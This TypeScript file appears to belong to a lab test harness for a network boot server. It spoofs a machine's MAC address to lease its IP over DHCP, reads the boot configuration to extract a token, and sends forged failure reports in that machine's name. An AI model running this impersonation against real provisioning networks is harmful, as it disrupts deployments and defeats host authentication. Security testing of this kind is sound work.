// A host that knows only the hardware address of a machine at work in another network. It leases an address under it in its own
// network, asks for the machine's configuration from there, and reports in its name.

import { execFileSync } from 'node:child_process';
import { createSocket } from 'node:dgram';
import { once } from 'node:events';
import { request } from 'node:http';
import { sleep, systemClock } from '../../src/clock.ts';
import { formatIpv4, type Ipv4, ipv4, type MacAddress } from '../../src/net/address.ts';
import { type ClientWords, clientBytes } from '../dhcp/lab.ts';
import { ip } from '../support/lab-facts.ts';

const BOOT_PORT = 5248;
const LEASE_TRIES = 20;
const ANSWER_MS = 1000;
const PAUSE_MS = 200;
/** As long as a token, and none. */
const NO_TOKEN = 'x'.repeat(32);

interface StolenBoot {
  readonly rack: string;
  readonly broadcast: string;
  readonly mac: MacAddress;
  readonly isOver: () => boolean;
  /** Called once reports are on their way. */
  readonly tell: () => void;
}

export async function stealBoot({ rack, broadcast, mac, isOver, tell }: StolenBoot): Promise<void> {
  const address = formatIpv4(await leaseAs(mac, rack, broadcast));
  execFileSync('ip', ['address', 'replace', `${address}/22`, 'dev', 'eth0']);
  for (let round = 0; !isOver(); round += 1) {
    const configuration = await ask(rack, address, '/ipxe.cfg');
    const token = /(?:token|boot)=([\w-]{22,64})/.exec(configuration)?.[1] ?? NO_TOKEN;
    await ask(rack, address, '/MAAS/rackboot/1/signal', token);
    if (round > 5) tell();
    await sleep(PAUSE_MS);
  }
}

/** An ordinary exchange under this hardware address. */
async function leaseAs(mac: MacAddress, rack: string, broadcast: string): Promise<Ipv4> {
  const socket = createSocket('udp4');
  let isBound = false;
  let offered: Ipv4 | undefined;
  socket.on('message', (bytes) => {
    const view = Buffer.from(bytes);
    if (view.readUIntBE(28, 6) !== mac) return;
    isBound = view.readUIntBE(16, 4) === offered;
    offered = ipv4(view.readUInt32BE(16));
  });
  socket.bind(68);
  await once(socket, 'listening');
  socket.setBroadcast(true);
  const say = (words: ClientWords): void =>
    void socket.send(clientBytes({ ...words, mac, xid: systemClock.now() >>> 0, broadcast: true }), 67, broadcast);
  for (let tries = 0; tries < LEASE_TRIES && !isBound; tries += 1) {
    if (offered === undefined) say({ type: 'discover' });
    else say({ type: 'request', requested: offered, server: ip(rack) });
    await sleep(ANSWER_MS);
  }
  socket.close();
  if (offered === undefined || !isBound) throw new Error('the rack leased nothing');
  return offered;
}

/** The answer's text; a report of failure when there is a token. */
function ask(rack: string, from: string, path: string, token?: string): Promise<string> {
  const { promise, resolve } = Promise.withResolvers<string>();
  const form = { 'Content-Type': 'application/x-www-form-urlencoded', 'X-Rackboot-Token': token ?? '' };
  const asked = request(
    {
      host: rack,
      port: BOOT_PORT,
      localAddress: from,
      path,
      agent: false,
      ...(token === undefined ? { method: 'GET' } : { method: 'POST', headers: form }),
    },
    (answer) => {
      const pieces: Buffer[] = [];
      answer.on('data', (piece: Buffer) => void pieces.push(piece));
      answer.on('close', () => resolve(Buffer.concat(pieces).toString()));
    },
  );
  asked.on('error', () => resolve(''));
  asked.end(token === undefined ? undefined : 'status=FAILED&stage=x&message=by+another+host');
  return promise;
}
